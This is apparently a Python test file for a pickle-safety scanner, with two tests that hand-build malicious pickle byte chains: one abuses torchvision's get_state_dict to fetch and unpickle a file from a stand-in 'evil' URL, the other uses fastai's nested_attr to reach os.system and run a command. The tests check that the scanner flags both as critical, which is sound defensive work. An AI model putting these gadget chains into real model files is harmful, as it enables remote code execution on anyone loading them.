"""Whole load-time chains whose every global was allowed one by one.

Each sample is hand-assembled; nothing here is ever loaded.
"""

from __future__ import annotations

from tests.pickle._pickle_corpus import call, critical, p4, scan, sg


def test_torchvision_weights_fetch_and_unpickle_any_url() -> None:
    """`ResNet50_Weights.get_state_dict(ns)` is torch.hub.load_state_dict_from_url(ns.url),
    whose torch.load runs with weights_only=False; a SimpleNamespace carries the URL."""
    ns = call(sg("types", "SimpleNamespace"))
    url = b"\x8c\x03url\x8c\x23http://evil/x-0123456789abcdef.pth"
    ns_with_url = ns + b"}(" + url + b"ub"
    method = call(
        sg("builtins", "getattr"),
        sg("torchvision.models.resnet", "ResNet50_Weights"),
        "get_state_dict",
    )
    data = p4(method + b"(" + ns_with_url + b"\x88tR")
    found = critical(scan(data)[0])
    assert any("get_state_dict" in m for m in found), found


def test_fastai_nested_attr_reaches_os_system_from_an_allowed_module() -> None:
    """fastai.torch_core imports os; nested_attr walks "os.system" off the module object."""
    walk = call(sg("fastai.torch_core", "nested_attr"), sg("fastai", "torch_core"), "os.system")
    data = p4(call(walk, "id"))
    found = critical(scan(data)[0])
    assert any("nested_attr" in m for m in found), found
